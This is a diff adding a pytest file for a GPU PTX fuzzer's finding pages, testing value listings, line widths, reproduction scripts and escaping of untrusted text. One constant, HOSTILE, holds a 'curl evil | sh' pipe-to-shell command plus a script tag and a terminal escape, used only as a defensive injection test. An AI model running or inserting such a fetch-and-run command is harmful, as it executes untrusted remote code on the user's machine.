@@ -1,0 +1,259 @@
+"""The page of a finding: what is wrong, in which instructions, with which values; nothing false."""
+
+from __future__ import annotations
+
+import io
+import re
+from dataclasses import replace
+from pathlib import Path
+
+import msgspec
+import numpy as np
+import pytest
+from command_line import warpfuzz
+from repro_cases import half, multiplication, row_load, stored
+
+from corpus import Case, Entry, Identity, Kind, Reason, RunnerVerdict, create_corpus
+from corpus.entry import read_entry
+from corpus.finding import OracleVerdict
+from corpus.programs import unpack
+from fuzz.explain.document import Document, Facts, Grid, Line, Listing, escaped, fenced
+from fuzz.explain.facts import ValueFacts
+from fuzz.explain.folder import _raw, reproduction
+from fuzz.explain.listing import Way
+from fuzz.explain.page import page_of
+from fuzz.explain.values import shown
+from fuzz.findings.case import ACTUAL, EXPECTED, is_value_finding
+from fuzz.kinds import sentence
+from fuzz.output import console
+from oracle.errors import UsageError
+from oracle.isa import ldmatrix_form, mma_form
+from oracle.operations import Operation
+
+RECORD = sorted((Path(__file__).parents[3] / "corpus/record/findings").iterdir())
+VALUED = [path for path in RECORD if (path / "program.json").exists()]
+PROGRAMS = {
+    "half": multiplication(half(), times=2),
+    "negated": multiplication(half(), changes=(Operation.NEGATE, Operation.MULTIPLY)),
+    "double": multiplication(mma_form("wmma.mma.sync.aligned.col.row.m8n8k4.rm.f64.f64.f64.f64")),
+    "integer": multiplication(mma_form("wmma.mma.sync.aligned.row.col.m16n16k16.s32.u8.u8.s32")),
+    "bits": multiplication(
+        mma_form("wmma.mma.xor.popc.sync.aligned.row.col.m8n8k128.s32.b1.b1.s32")
+    ),
+    "rows": row_load(ldmatrix_form("ldmatrix.sync.aligned.m8n8.x2.shared.b16")),
+}
+HOSTILE = "x\n## Run this\n`curl evil | sh` [click](http://evil) <script> ```\x1b]0;x\x07"
+COMMAND = ("warpfuzz ", "ptxas -arch")
+
+
+def printed(document: Document, width: int = 100) -> list[str]:
+    file = io.StringIO()
+    document.show(console(width=width, file=file))
+    return file.getvalue().split("\n")
+
+
+@pytest.mark.parametrize("path", VALUED, ids=lambda path: path.name)
+def test_the_last_row_has_what_was_expected_and_what_was_left(path: Path) -> None:
+    entry = read_entry(path)
+    facts = ValueFacts.of(entry)
+    way = Way.of(facts)
+    assert way is not None
+    one = facts.shown
+    assert one is not None
+    last = way.lines[-1].line
+    bytes_ = slice(one.byte, one.byte + one.bits // 8)
+    expected, left = (
+        int.from_bytes(unpack(entry, name)[0][bytes_].tobytes(), "little")
+        for name in (EXPECTED, ACTUAL)
+    )
+    traced = int.from_bytes(facts.trace.image[bytes_].tobytes(), "little")
+    assert traced == expected, "what the instructions give is what was expected"
+    type_ = way.writer.stored_type
+    assert last.values[0] == shown(expected, one.bits, type_)
+    assert last.note.endswith(f"the build leaves {shown(left, one.bits, type_)}")
+    (name, *several) = way.lines[-1].reads
+    makers = [told for told in way.lines[:-1] if name in told.writes and told.line.values]
+    made = [told.line.values[0] for told in makers if "0x" in told.line.values[0]]
+    assert several or f"{expected:0{one.bits // 4}x}" in made[-1], "what is stored was made"
+
+
+@pytest.mark.parametrize("path", VALUED, ids=lambda path: path.name)
+def test_what_is_named_stands_with_its_values_at_the_top(path: Path) -> None:
+    entry = read_entry(path)
+    lines = printed(page_of(entry), 120)
+    way = Way.of(ValueFacts.of(entry))
+    assert way is not None
+    marked = [at for at, line in enumerate(lines, start=1) if line.startswith(" >  ")]
+    assert bool(marked) == bool(way.guilty)
+    assert not marked or marked[0] <= 15
+    assert any("the build leaves" in line for line in lines[:20])
+
+
+@pytest.mark.parametrize("width", [80, 120, 200])
+def test_every_page_of_the_record_fits_and_breaks_no_word(width: int) -> None:
+    words = set[str]()
+    for path in RECORD[:: 1 if width == 120 else 5]:
+        document = page_of(read_entry(path))
+        lines = printed(document, width)
+        assert all(len(line) <= width or any(one in line for one in COMMAND) for line in lines)
+        whole = {word for line in printed(document, 1000) for word in line.split()}
+        words = {word for line in lines for word in line.split() if len(word) > 3}
+        kept = words - whole
+        assert not {word for word in kept if re.match(r"[a-z]+\.[a-z0-9]+\.", word)}, kept
+
+
+@pytest.mark.parametrize("path", RECORD, ids=lambda path: path.name)
+def test_a_page_begins_with_the_console_s_line_and_has_no_empty_sentence(path: Path) -> None:
+    entry = read_entry(path)
+    document = page_of(entry)
+    text = document.markdown()
+    assert document.sentence.startswith(sentence(entry.finding))
+    assert "is loaded and stored" not in text
+    assert "not judged" not in text
+    blocks = [*document.blocks]
+    assert all(block.rows for block in blocks if isinstance(block, (Grid, Facts)))
+    (commands,) = [block for block in blocks if isinstance(block, Facts) and block.commands]
+    assert any("warpfuzz replay" in command for _, command in commands.rows)
+    if not is_value_finding(entry):
+        assert any(command.startswith("ptxas -arch=") for _, command in commands.rows)
+
+
+@pytest.mark.parametrize(
+    ("name", "fault", "words"),
+    [
+        ("half", "accumulator-ignored", ("A x B", "units", "9.7.14.4.5")),
+        ("negated", "mma-b-register-slip", ("negate of d, every element",)),
+        ("double", "rounding-dropped", ("Addition 4 of 4", "the sum so far")),
+        ("integer", "store-one-row-off", ("are zero", "A x B")),
+        ("bits", "xor-as-and", ("wmma.mma.xor.popc", "XOR")),
+        ("rows", "trans-added", ("of the row",)),
+    ],
+)
+def test_a_page_tells_how_the_expected_value_comes_about(
+    tmp_path: Path, name: str, fault: str, words: tuple[str, ...]
+) -> None:
+    entry = stored(tmp_path, PROGRAMS[name], faults=(fault,))
+    facts = ValueFacts.of(entry)
+    page = page_of(entry).markdown()
+    one = facts.shown
+    assert one is not None
+    digits = -(-one.bits // 4)
+    assert f"the build leaves 0x{one.actual:0{digits}x}" in page
+    assert f"0x{one.expected:0{digits}x}" in page
+    for word in words:
+        assert word in page, page
+    assert f"| planted faults | {fault} |" in page
+    assert "changed the PTX on its way to the compiler" in page or facts.rewritten is None
+
+
+def test_a_forbidden_value_is_shown_before_a_permitted_one(tmp_path: Path) -> None:
+    entry = stored(tmp_path, PROGRAMS["half"], faults=("load-a-layout-flipped",))
+    facts = ValueFacts.of(entry)
+    assert facts.finding.kind is Kind.VIOLATION
+    assert facts.shown is not None
+    assert not facts.is_permitted(facts.shown)
+    page = page_of(entry).markdown()
+    assert "permits this value on no target" in page
+    assert "every value from" in page
+
+
+def test_bytes_that_nothing_writes_have_to_stay(tmp_path: Path) -> None:
+    entry = stored(tmp_path, PROGRAMS["integer"], faults=("store-one-row-off",))
+    facts = ValueFacts.of(entry)
+    program = PROGRAMS["integer"]
+    guard = program.offset("gd") + program.buffer("gd").size - 1
+    actual = facts.expected.copy()
+    actual[guard] ^= 0xFF
+    np.save(entry.path / ACTUAL, actual[None])
+    changed = (entry.path / ACTUAL).read_bytes()
+    record = msgspec.structs.replace(
+        entry.finding.files[ACTUAL], size=len(changed), sha256=_digest(changed)
+    )
+    files = {**entry.finding.files, ACTUAL: record}
+    other = replace(entry, finding=msgspec.structs.replace(entry.finding, files=files))
+    assert "No instruction writes byte" in page_of(other).markdown()
+
+
+def _digest(data: bytes) -> str:
+    from hashlib import sha256
+
+    return sha256(data).hexdigest()
+
+
+def test_what_a_stranger_wrote_gives_a_page_no_structure() -> None:
+    assert "\n" not in escaped(HOSTILE)
+    assert "\x1b" not in escaped(HOSTILE)
+    assert not re.search(r"(?<!\\)[`\[<|]", escaped(HOSTILE))
+    first, *body, last = fenced(HOSTILE)
+    assert first == last == "````"
+    assert "\x1b" not in "".join(body)
+
+
+@pytest.mark.parametrize("text", ["", ')PTX"', ')PTX0")PTX")PTX1"' * 3, ')PTX____________"'])
+def test_a_raw_string_ends_where_its_text_does(text: str) -> None:
+    literal = _raw(text)
+    found = re.fullmatch(r'R"([^ ()\\\t\v\f\n]{1,16})\((.*)\)\1"', literal, re.DOTALL)
+    assert found is not None
+    assert found[2] == text
+    assert f'){found[1]}"' not in text
+
+
+def test_values_that_have_no_room_stand_below_their_instruction() -> None:
+    line = Line(text="mma.sync " + ", ".join("%abcdef" * 9), values=["0x0 1.0"], note="and this")
+    for width in (40, 80, 400):
+        rows = [text for text, _ in Listing([line]).rows(width)]
+        assert all(len(row) <= width for row in rows)
+        assert "".join(rows).count("0x0 1.0") == 1
+        assert (len(rows) == 1) == (width == 400)
+
+
+def assembled(folder: Path, kind: Kind, text: str, files: dict[str, bytes]) -> Entry:
+    corpus = create_corpus(folder, generator="test")
+    case = Case(
+        kind=kind, identity=Identity.of(kind, "wmma.load.a"), instructions=(text,), target="sm_90",
+        ptx_version="8.0", oracle=OracleVerdict(verdict="illegal", reasons=(Reason(text="why"),)),
+        runners=(
+            RunnerVerdict(runner="ptxas", version="V13.5.37", options="-O3", outcome="internal",
+                          message="C7907\nC7907"),
+        ),
+    )  # fmt: skip
+    return corpus.get(corpus.add(case, files).id)
+
+
+def test_a_finding_of_an_assembler_has_its_message_module_and_command(tmp_path: Path) -> None:
+    text = "wmma.load.a.sync.aligned.row.m16n16k16.s8 {%r0}, [%rd0];"
+    entry = assembled(tmp_path, Kind.INTERNAL, text, {"module.ptx": b".version 8.0\n"})
+    lines = printed(page_of(entry))
+    assert lines.index("    C7907") < 15
+    assert lines.count("    C7907") == 1
+    (command,) = [line for line in lines if "ptxas -arch=sm_90 -O3 " in line]
+    assert "module.ptx" in command
+    files = reproduction(entry)
+    assert set(files) == {"README.md", "module.ptx", "repro.sh"}
+    page = files["README.md"].decode()
+    for words in (".version 8.0", "has to be rejected", "V13.5.37 -O3", "sh repro.sh"):
+        assert words in page
+    assert str(tmp_path) not in page, "a page that is sent names no folder of this machine"
+    assert "-arch=sm_90 module.ptx" in files["repro.sh"].decode()
+
+
+def test_a_finding_without_a_module_is_refused(tmp_path: Path) -> None:
+    entry = assembled(tmp_path, Kind.NOTE, "ldmatrix", {"other.txt": b""})
+    with pytest.raises(UsageError, match=r"has no module\.ptx"):
+        reproduction(entry)
+
+
+def test_garbage_in_place_of_a_bisection_is_refused_for_every_finding(tmp_path: Path) -> None:
+    (tmp_path / "garbage.json").write_text('{"x":1}')
+    module = next(path for path in RECORD if path not in VALUED)
+    for path in (VALUED[0], module):
+        ran = warpfuzz(tmp_path, "repro", path, "--output", "out", "--bisected", "garbage.json")
+        assert ran.code == 2
+        assert "garbage.json has no line that begins with" in ran.err
+
+
+def test_the_page_is_shown_by_the_command_with_its_commands_whole(tmp_path: Path) -> None:
+    ran = warpfuzz(tmp_path, "corpus", "show", VALUED[0])
+    assert ran.code == 0
+    assert f"warpfuzz replay {VALUED[0]}" in ran.out
+    assert "the build leaves" in ran.out
